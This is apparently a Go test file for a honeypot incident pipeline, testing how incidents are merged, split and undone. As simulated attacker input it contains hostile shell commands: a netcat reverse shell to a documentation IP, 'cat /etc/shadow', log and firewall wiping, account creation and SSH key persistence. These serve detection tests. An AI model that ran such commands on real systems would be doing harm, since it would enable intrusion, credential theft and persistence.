package pipeline_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"honeyguide"
	"honeyguide/internal/pipeline"
	"honeyguide/internal/state"
)

// intruder makes what two attackers do in the same way, a minute apart.
func intruder(src, session string, at time.Time, lines ...string) []honeyguide.Event {
	s := &script{src: src, service: "ssh", session: session, at: at}
	for _, l := range lines {
		s.command(l)
	}
	return s.out
}

// two returns a world with two incidents of two attackers.
func two(t *testing.T) (w *world, one, other honeyguide.Incident) {
	t.Helper()
	w = newWorld(t)
	w.add(intruder(reader, "a", noon, "history -c", "iptables -F")...)
	w.run()
	w.add(intruder(buyer, "b", noon.Add(time.Minute), "cat /etc/shadow", "history -c")...)
	w.run()
	return w, w.incident("attacker:" + reader), w.incident("attacker:" + buyer)
}

// incident returns the open incident of a key, the zero one when there is none.
func (w *world) incident(key string) (in honeyguide.Incident) {
	w.t.Helper()
	w.tx(func(ctx context.Context, tx state.Tx) (err error) {
		in, err = tx.Incidents().OpenByKey(ctx, key)
		if err != nil && honeyguide.ErrorCode(err) == honeyguide.CodeNotFound {
			return nil
		}
		return err
	})
	return in
}

func (w *world) get(id string) (in honeyguide.Incident) {
	w.t.Helper()
	w.tx(func(ctx context.Context, tx state.Tx) (err error) { in, err = tx.Incidents().Get(ctx, id); return err })
	return in
}

// members returns the alerts of an incident by rule and attacker.
func (w *world) members(id string) (out []string) {
	for _, a := range w.found().alerts {
		if a.Incident == id {
			out = append(out, a.RuleID+" "+strings.TrimPrefix(a.Attacker, "attacker:"))
		}
	}
	slices.Sort(out)
	return out
}

// unchanged compares two incidents but for when they were touched.
func unchanged(t *testing.T, name string, got, want honeyguide.Incident) {
	t.Helper()
	if d := cmp.Diff(want, got, cmpopts.IgnoreFields(honeyguide.Incident{}, "UpdatedAt"), cmpopts.EquateEmpty(), cmpopts.EquateComparable(netip.AddrPort{})); d != "" {
		t.Errorf("%s (-before +after): %s", name, d)
	}
}

func TestMergeAndUndo(t *testing.T) {
	w, one, other := two(t)
	before := map[string][]string{one.ID: w.members(one.ID), other.ID: w.members(other.ID)}
	var changes []honeyguide.IncidentChange
	w.tx(func(ctx context.Context, tx state.Tx) (err error) {
		changes, err = pipeline.Merge(ctx, tx, one.Short, []string{other.Short}, "admin", "same tools", clock())
		return err
	})
	merged, closed := w.get(one.ID), w.get(other.ID)
	if len(changes) != 1 || changes[0].Alerts != other.AlertCount || merged.AlertCount != one.AlertCount+other.AlertCount || merged.EventCount != one.EventCount+other.EventCount ||
		!slices.Equal(merged.Attackers, []string{reader, buyer}) || merged.Severity != max(one.Severity, other.Severity) || closed.Status != honeyguide.IncidentClosed || len(w.members(other.ID)) != 0 {
		t.Fatalf("merged %+v, closed %+v, changes %+v", merged, closed, changes)
	}
	// What the second one does from now on belongs to the merged incident.
	w.add(intruder(buyer, "c", noon.Add(5*time.Minute), "useradd -m eve")...)
	w.run()
	if a := w.found().alert("account_change"); a.Incident != one.ID {
		t.Errorf("a later alert is in %q", a.Incident)
	}
	w.tx(func(ctx context.Context, tx state.Tx) error {
		c, err := pipeline.Undo(ctx, tx, changes[0].Short, "admin", clock())
		if c.UndoneAt.IsZero() || c.UndoneBy != "admin" {
			t.Errorf("undone: %+v", c)
		}
		return err
	})
	unchanged(t, "the one that took", w.get(one.ID), one)
	if got := w.members(one.ID); !slices.Equal(got, before[one.ID]) {
		t.Errorf("the one that took has %v, had %v", got, before[one.ID])
	}
	back := w.get(other.ID)
	if got := w.members(other.ID); !slices.Equal(got, append([]string{"account_change " + buyer}, before[other.ID]...)) || back.Status != other.Status || back.Title != other.Title || back.AlertCount != other.AlertCount+1 {
		t.Errorf("the one that gave: %+v with %v", back, got)
	}
	// Undone is undone: once, and for what comes later.
	err := w.state.Update(t.Context(), func(tx state.Tx) error {
		_, err := pipeline.Undo(t.Context(), tx, changes[0].ID, "admin", clock())
		return err
	})
	if honeyguide.ErrorCode(err) != honeyguide.CodeConflict {
		t.Errorf("undone twice: %v", err)
	}
	w.add(intruder(buyer, "d", noon.Add(9*time.Minute), "nc 192.0.2.1 4444 -e /bin/sh")...)
	w.run()
	if a := w.found().alert("reverse_shell"); a.Incident != other.ID {
		t.Errorf("an alert after the undo is in %q", a.Incident)
	}
}

// handled is an incident with what people and playbooks did about it: its whole
// document and all that hangs on it, but for what regrouping itself wrote.
func (w *world) handled(id string) (out struct {
	Incident honeyguide.Incident
	Timeline []honeyguide.TimelineEntry
	Runs     []honeyguide.Run
	Plans    []honeyguide.Plan
},
) {
	w.t.Helper()
	w.tx(func(ctx context.Context, tx state.Tx) (err error) {
		if out.Incident, err = tx.Incidents().Get(ctx, id); err != nil {
			return err
		}
		out.Incident.UpdatedAt = time.Time{}
		if out.Timeline, _, err = tx.Timeline().List(ctx, state.TimelineQuery{Incident: id}); err != nil {
			return err
		}
		out.Timeline = slices.DeleteFunc(out.Timeline, func(e honeyguide.TimelineEntry) bool { return e.Kind == honeyguide.EntryMerge })
		if out.Runs, _, err = tx.Runs().List(ctx, state.RunQuery{Incident: id}); err != nil {
			return err
		}
		out.Plans, err = tx.Plans().ByIncident(ctx, id)
		return err
	})
	return out
}

// work gives an incident an owner, a clock, tasks, a timeline, a run and a plan.
func (w *world) work(id, who string, at time.Time, edit func(*honeyguide.Incident)) {
	w.t.Helper()
	w.tx(func(ctx context.Context, tx state.Tx) error {
		in, err := tx.Incidents().Get(ctx, id)
		if err != nil {
			return err
		}
		in.Owner = who
		in.Clock = honeyguide.Clock{AcknowledgedAt: at, TriagedAt: at.Add(time.Minute), HeldMS: 5}
		in.Tasks = []honeyguide.Task{{ID: "T-1", Title: "call " + who, By: who, CreatedAt: at}, {ID: "T-2", Title: "write", By: who, CreatedAt: at}}
		edit(&in)
		_, err = tx.Incidents().Save(ctx, &in)
		run := honeyguide.Run{ID: "run of " + who, Playbook: "p", Incident: in.ID, State: honeyguide.RunRunning, Mode: honeyguide.ModeApply}
		plan := honeyguide.Plan{ID: "plan of " + who, Run: run.ID, Incident: in.ID, Action: "block_ip", Target: in.Attackers[0], State: honeyguide.PlanVerified, Mode: honeyguide.ModeApply}
		note := honeyguide.TimelineEntry{Incident: in.ID, At: at, SeenAt: at, Kind: honeyguide.EntryComment, By: who, Text: "looked"}
		return errors.Join(err, tx.Runs().Save(ctx, &run), tx.Plans().Save(ctx, &plan), tx.Timeline().Add(ctx, &note))
	})
}

func equal(t *testing.T, name string, got, want any) {
	t.Helper()
	g, err := json.Marshal(got)
	w, err2 := json.Marshal(want)
	if err != nil || err2 != nil || !bytes.Equal(g, w) {
		t.Errorf("%s: %v %v\n got %s\nwant %s", name, err, err2, g, w)
	}
}

// What people and playbooks did goes along with a merge, and an undo gives back
// every byte of it. What somebody did since stays done.
func TestMergeCarriesTheHandling(t *testing.T) {
	w, one, other := two(t)
	w.work(one.ID, "anna", noon.Add(2*time.Hour), func(in *honeyguide.Incident) {})
	w.work(other.ID, "ben", noon.Add(time.Hour), func(in *honeyguide.Incident) {
		in.Phase, in.Status, in.Clock.ContainedAt = honeyguide.PhaseContained, honeyguide.IncidentInProgress, noon.Add(90*time.Minute)
		in.Verdict = honeyguide.Verdict{As: honeyguide.VerdictTruePositive, By: "ben", At: noon}
		in.Proven = in.Attackers
	})
	first, second := w.handled(one.ID), w.handled(other.ID)
	regroup := func(f func(ctx context.Context, tx state.Tx) error) { w.t.Helper(); w.tx(f) }
	var c honeyguide.IncidentChange
	regroup(func(ctx context.Context, tx state.Tx) error {
		changes, err := pipeline.Merge(ctx, tx, one.ID, []string{other.ID}, "admin", "", clock())
		c = changes[0]
		return err
	})
	merged, closed := w.handled(one.ID), w.handled(other.ID)
	in := merged.Incident
	if in.Owner != "anna" || len(in.Tasks) != 4 || in.Tasks[2].ID != "T-3" || in.Tasks[2].Title != "call ben" || !in.Clock.AcknowledgedAt.Equal(noon.Add(time.Hour)) ||
		!in.Clock.ContainedAt.Equal(noon.Add(90*time.Minute)) || !slices.Equal(in.Proven, in.Attackers) || in.Clock.HeldMS != 5 {
		t.Errorf("merged %+v", in)
	}
	foreign := func(p honeyguide.Plan) bool { return p.Incident != one.ID }
	if len(merged.Timeline) != 2 || len(merged.Runs) != len(first.Runs)+len(second.Runs) || len(merged.Plans) != len(first.Plans)+len(second.Plans) || slices.ContainsFunc(merged.Plans, foreign) {
		t.Errorf("merged %+v", merged)
	}
	if closed.Incident.Joined != one.ID || len(closed.Timeline)+len(closed.Runs)+len(closed.Plans) != 0 {
		t.Errorf("closed %+v", closed)
	}
	undo := func(id string) {
		t.Helper()
		regroup(func(ctx context.Context, tx state.Tx) error {
			_, err := pipeline.Undo(ctx, tx, id, "admin", clock())
			return err
		})
	}
	undo(c.ID)
	equal(t, "the one that took", w.handled(one.ID), first)
	equal(t, "the one that gave", w.handled(other.ID), second)

	// Again, and this time somebody goes on working in between.
	regroup(func(ctx context.Context, tx state.Tx) error {
		changes, err := pipeline.Merge(ctx, tx, one.ID, []string{other.ID}, "admin", "", clock())
		if err != nil {
			return err
		}
		c = changes[0]
		in, err := tx.Incidents().Get(ctx, one.ID)
		in.Owner, in.Tasks[3].DoneAt, in.Clock.ContainedAt = "carla", noon, noon.Add(3*time.Hour)
		in.Tasks = append(in.Tasks, honeyguide.Task{ID: "T-5", Title: "both", CreatedAt: noon})
		_, err2 := tx.Incidents().Save(ctx, &in)
		return errors.Join(err, err2)
	})
	undo(c.ID)
	took, gave := w.handled(one.ID).Incident, w.handled(other.ID).Incident
	if took.Owner != "carla" || !took.Clock.ContainedAt.Equal(noon.Add(3*time.Hour)) || len(took.Tasks) != 3 || took.Tasks[2].ID != "T-5" || !took.Clock.AcknowledgedAt.Equal(noon.Add(2*time.Hour)) {
		t.Errorf("the one that took: %+v", took)
	}
	if gave.Owner != "ben" || len(gave.Tasks) != 2 || gave.Tasks[1].ID != "T-2" || !gave.Tasks[1].DoneAt.Equal(noon) {
		t.Errorf("the one that gave: %+v", gave)
	}
}

// Merges undone in another order than they were made leave nothing behind.
func TestUndoInAnyOrder(t *testing.T) {
	w, one, other := two(t)
	w.add(intruder("198.51.100.77", "z", noon.Add(2*time.Minute), "history -c", "iptables -F")...)
	w.run()
	third := w.incident("attacker:198.51.100.77")
	w.work(one.ID, "anna", noon.Add(3*time.Hour), func(*honeyguide.Incident) {})
	w.work(other.ID, "ben", noon.Add(2*time.Hour), func(*honeyguide.Incident) {})
	w.work(third.ID, "carla", noon.Add(time.Hour), func(*honeyguide.Incident) {})
	before := []any{w.handled(one.ID), w.handled(other.ID), w.handled(third.ID)}
	for _, order := range [][]int{{0, 1}, {1, 0}} {
		var changes []honeyguide.IncidentChange
		w.tx(func(ctx context.Context, tx state.Tx) (err error) {
			changes, err = pipeline.Merge(ctx, tx, one.ID, []string{other.ID, third.ID}, "admin", "", clock())
			return err
		})
		for _, n := range order {
			w.tx(func(ctx context.Context, tx state.Tx) error {
				_, err := pipeline.Undo(ctx, tx, changes[n].ID, "admin", clock())
				return err
			})
		}
		for i, id := range []string{one.ID, other.ID, third.ID} {
			equal(t, fmt.Sprintf("order %v, incident %d", order, i), w.handled(id), before[i])
		}
	}
}

// A split takes along what rests on its alerts, and brings it back.
func TestSplitCarriesTheHandling(t *testing.T) {
	w, one, other := two(t)
	w.tx(func(ctx context.Context, tx state.Tx) error {
		_, err := pipeline.Merge(ctx, tx, one.ID, []string{other.ID}, "admin", "", clock())
		return err
	})
	var theirs []string
	for _, a := range w.found().alerts {
		if strings.HasSuffix(a.Attacker, buyer) {
			theirs = append(theirs, a.ID)
		}
	}
	w.work(one.ID, "anna", noon.Add(time.Hour), func(in *honeyguide.Incident) {
		in.Phase, in.Status, in.Clock.ContainedAt = honeyguide.PhaseContained, honeyguide.IncidentInProgress, noon.Add(2*time.Hour)
	})
	w.tx(func(ctx context.Context, tx state.Tx) error {
		plan := honeyguide.Plan{ID: "theirs", Incident: one.ID, Action: "block_ip", Target: buyer, Evidence: theirs, State: honeyguide.PlanVerified, Mode: honeyguide.ModeApply}
		note := honeyguide.TimelineEntry{Incident: one.ID, At: noon, SeenAt: noon, Kind: honeyguide.EntryAct, By: "playbook", Text: "blocked", Ref: "theirs"}
		return errors.Join(tx.Plans().Save(ctx, &plan), tx.Timeline().Add(ctx, &note))
	})
	before := w.handled(one.ID)
	var c honeyguide.IncidentChange
	w.tx(func(ctx context.Context, tx state.Tx) (err error) {
		c, err = pipeline.Split(ctx, tx, one.ID, nil, []string{buyer}, "admin", "", clock())
		return err
	})
	off := w.handled(c.Into)
	if !slices.ContainsFunc(off.Plans, func(p honeyguide.Plan) bool { return p.ID == "theirs" }) || slices.ContainsFunc(off.Plans, func(p honeyguide.Plan) bool { return p.Target != buyer }) || len(off.Timeline) != 1 || off.Incident.Owner != "anna" || off.Incident.Phase != honeyguide.PhaseTriage ||
		!off.Incident.Clock.ContainedAt.IsZero() || off.Incident.Clock.AcknowledgedAt.IsZero() || !off.Incident.DueAt.Equal(before.Incident.DueAt) {
		t.Errorf("split off: %+v", off)
	}
	w.tx(func(ctx context.Context, tx state.Tx) error {
		_, err := pipeline.Undo(ctx, tx, c.ID, "admin", clock())
		return err
	})
	equal(t, "after the undo", w.handled(one.ID), before)
}

// A join made by correlation can be undone, and correlation does not make it
// again.
func TestUndoAJoin(t *testing.T) {
	w, one, other := two(t)
	w.work(other.ID, "ben", noon.Add(time.Hour), func(*honeyguide.Incident) {})
	worked := w.handled(other.ID)
	key := "echo 'ssh-ed25519 " + strings.Repeat("AAAAC3NzaC1lZDI1NTE5", 3) + " x' >> ~/.ssh/authorized_keys"
	w.add(intruder(reader, "a2", noon.Add(2*time.Minute), key)...)
	w.run()
	w.add(intruder(buyer, "b2", noon.Add(3*time.Minute), key)...)
	w.run()
	if w.incident("attacker:"+buyer).ID != "" {
		t.Fatal("correlation did not join them")
	}
	if in := w.get(one.ID); in.Owner != "ben" || len(in.Tasks) != 2 || len(w.handled(one.ID).Runs) < 1 || w.get(other.ID).Joined != one.ID {
		t.Errorf("the join left behind what was done: %+v", in)
	}
	w.tx(func(ctx context.Context, tx state.Tx) error {
		list, _, err := tx.IncidentChanges().List(ctx, state.ChangeQuery{Incident: other.ID})
		if len(list) != 1 || list[0].Kind != "join" || list[0].Into != one.ID || list[0].By != "correlation" {
			t.Fatalf("changes %+v", list)
		}
		if err != nil {
			return err
		}
		_, err = pipeline.Undo(ctx, tx, list[0].ID, "admin", clock())
		return err
	})
	for _, m := range w.members(one.ID) {
		if !strings.HasSuffix(m, reader) {
			t.Errorf("%s is still in %s", m, one.Short)
		}
	}
	back, took := w.handled(other.ID), w.get(one.ID)
	equal(t, "what was done", []any{back.Incident.Owner, back.Incident.Tasks, back.Incident.Clock, back.Timeline}, []any{worked.Incident.Owner, worked.Incident.Tasks, worked.Incident.Clock, worked.Timeline})
	if took.Owner != "" || len(took.Tasks) != 0 || took.Clock != (honeyguide.Clock{}) || back.Incident.Joined != "" {
		t.Errorf("the one that took keeps %+v", took)
	}
	if len(w.members(other.ID)) != 3 {
		t.Errorf("%s has %v", other.Short, w.members(other.ID))
	}
	// The same key again, from both.
	w.add(intruder(buyer, "b3", noon.Add(5*time.Minute), key, "useradd -m eve")...)
	w.add(intruder(reader, "a3", noon.Add(6*time.Minute), key)...)
	w.run()
	if got, open := w.get(other.ID), w.get(one.ID); !state.OpenIncident(got.Status) || !state.OpenIncident(open.Status) || w.found().alert("account_change").Incident != other.ID {
		t.Errorf("joined again: %s and %s", got.Status, open.Status)
	}
}

func TestSplitByAttacker(t *testing.T) {
	for name, who := range map[string]string{"the other": buyer, "the one it is named after": reader} {
		w, one, other := two(t)
		w.tx(func(ctx context.Context, tx state.Tx) error {
			_, err := pipeline.Merge(ctx, tx, one.ID, []string{other.ID}, "admin", "", clock())
			return err
		})
		merged := w.get(one.ID)
		all := w.members(one.ID)
		var c honeyguide.IncidentChange
		w.tx(func(ctx context.Context, tx state.Tx) (err error) {
			c, err = pipeline.Split(ctx, tx, one.Short, nil, []string{who}, "admin", "not the same", clock())
			return err
		})
		// Whoever is named, the named one's incident keeps its name.
		if got := w.get(one.ID); !slices.Equal(got.Attackers, []string{reader}) || got.AlertCount != one.AlertCount {
			t.Errorf("%s: what stays: %+v", name, got)
		}
		if got := w.get(c.Into); !slices.Equal(got.Attackers, []string{buyer}) || got.AlertCount != other.AlertCount || got.Key != "attacker:"+buyer || got.DueAt.IsZero() || got.Severity != other.Severity {
			t.Errorf("%s: what goes: %+v", name, got)
		}
		w.add(intruder(buyer, "d", noon.Add(9*time.Minute), "useradd -m eve")...)
		w.run()
		if a := w.found().alert("account_change"); a.Incident != c.Into {
			t.Errorf("%s: a later alert is in %q", name, a.Incident)
		}
		w.tx(func(ctx context.Context, tx state.Tx) error {
			_, err := pipeline.Undo(ctx, tx, c.ID, "admin", clock())
			return err
		})
		if got := w.members(one.ID); !slices.Equal(got, append([]string{"account_change " + buyer}, all...)) {
			t.Errorf("%s: after the undo: %v, before %v", name, got, all)
		}
		if got := w.get(c.Into); state.OpenIncident(got.Status) {
			t.Errorf("%s: the new one is still open: %+v", name, got)
		}
		if got := w.get(one.ID); got.EventCount != merged.EventCount+1 || got.Severity != merged.Severity {
			t.Errorf("%s: after the undo %+v, before %+v", name, got, merged)
		}
	}
}

// Alerts split off stay where they were put, although their attacker goes on.
func TestSplitByAlerts(t *testing.T) {
	w := newWorld(t)
	w.add(intruder(reader, "a", noon, "history -c", "cat /etc/shadow")...)
	w.run()
	one := w.incident("attacker:" + reader)
	a := w.found().alert("log_wiping")
	var c honeyguide.IncidentChange
	w.tx(func(ctx context.Context, tx state.Tx) (err error) {
		c, err = pipeline.Split(ctx, tx, one.ID, []string{a.Short}, nil, "admin", "a test of ours", clock())
		return err
	})
	w.add(intruder(reader, "b", noon.Add(time.Minute), "history -c", "cat /etc/shadow", "useradd -m eve")...)
	w.run()
	if got := w.members(c.Into); !slices.Equal(got, []string{"log_wiping " + reader}) {
		t.Errorf("split off: %v", got)
	}
	if got := w.get(c.Into); got.EventCount != 2 || got.AlertCount != 1 {
		t.Errorf("split off: %+v", got)
	}
	if got := w.members(one.ID); !slices.Equal(got, []string{"account_change " + reader, "credential_access " + reader}) {
		t.Errorf("what stays: %v", got)
	}
	w.tx(func(ctx context.Context, tx state.Tx) error {
		_, err := pipeline.Undo(ctx, tx, c.Short, "admin", clock())
		return err
	})
	if got := w.get(one.ID); got.AlertCount != 3 || got.EventCount != 5 {
		t.Errorf("after the undo: %+v", got)
	}
}

func TestRegroupingRefuses(t *testing.T) {
	w, one, other := two(t)
	code := func(f func(ctx context.Context, tx state.Tx) error) honeyguide.Code {
		err := w.state.Update(t.Context(), func(tx state.Tx) error { return f(t.Context(), tx) })
		if err == nil {
			return ""
		}
		return honeyguide.ErrorCode(err)
	}
	merge := func(into string, from ...string) honeyguide.Code {
		return code(func(ctx context.Context, tx state.Tx) error {
			_, err := pipeline.Merge(ctx, tx, into, from, "admin", "", clock())
			return err
		})
	}
	split := func(from string, alerts []string, attackers ...string) honeyguide.Code {
		return code(func(ctx context.Context, tx state.Tx) error {
			_, err := pipeline.Split(ctx, tx, from, alerts, attackers, "admin", "", clock())
			return err
		})
	}
	for name, c := range map[string]struct{ got, want honeyguide.Code }{
		"into itself":              {merge(one.ID, one.Short), honeyguide.CodeInvalid},
		"nothing":                  {merge(one.ID), honeyguide.CodeInvalid},
		"an unknown one":           {merge(one.ID, "I-99"), honeyguide.CodeNotFound},
		"off nobody":               {split(one.ID, nil), honeyguide.CodeInvalid},
		"off a stranger":           {split(one.ID, nil, "198.51.100.250"), honeyguide.CodeInvalid},
		"all of it":                {split(one.ID, nil, "attacker:"+reader), honeyguide.CodeInvalid},
		"off an alert of another":  {split(one.ID, []string{w.found().alert("credential_access").ID}), honeyguide.CodeInvalid},
		"off an alert that is not": {split(one.ID, []string{"A-99"}), honeyguide.CodeNotFound},
	} {
		if c.got != c.want {
			t.Errorf("%s: %q, want %q", name, c.got, c.want)
		}
	}
	other.Status = honeyguide.IncidentResolved
	w.tx(func(ctx context.Context, tx state.Tx) error { _, err := tx.Incidents().Save(ctx, &other); return err })
	if got := merge(other.ID, one.ID); got != honeyguide.CodeConflict {
		t.Errorf("into a resolved one: %q", got)
	}
	if got := split(other.ID, nil, buyer); got != honeyguide.CodeConflict {
		t.Errorf("off a resolved one: %q", got)
	}
}

// An own host that touches decoys after it was attacked: one story with its
// attacker, at once high.
func TestAnOwnHostThatTouchesDecoys(t *testing.T) {
	const host, attacker = "10.0.0.5", "203.0.113.9"
	w := newWorld(t)
	hit := &script{src: attacker, service: "suricata", at: noon}
	hit.do(honeyguide.ActivityFinding, honeyguide.AttrProduct, "Suricata", honeyguide.AttrRuleID, "1", honeyguide.AttrRule, "ET EXPLOIT something")
	hit.out[0].Severity, hit.out[0].Class = honeyguide.SeverityMedium, honeyguide.ClassDetection
	hit.out[0].Dst.Addr = netip.MustParseAddrPort(host + ":445")
	w.add(hit.out...)
	w.run()
	w.add((&script{src: host, service: "ssh", session: "a", at: noon.Add(time.Hour)}).do(honeyguide.ActivityConnect).out...)
	w.run()
	f := w.found()
	a := f.alert("decoy_and_alert")
	if a.Severity != honeyguide.SeverityHigh || a.Count != 2 || a.Incident == "" {
		t.Fatalf("alert %+v", a)
	}
	in := w.get(a.Incident)
	if in.Severity != honeyguide.SeverityHigh || !slices.Contains(in.Attackers, host) || !slices.Contains(in.Attackers, attacker) {
		t.Errorf("incident %+v", in)
	}
	// Whatever the decoys saw of the host stands in it.
	if c := f.alert("decoy_contact"); c.Incident != in.ID {
		t.Errorf("the contact is in %q, the story in %q", c.Incident, in.ID)
	}
}
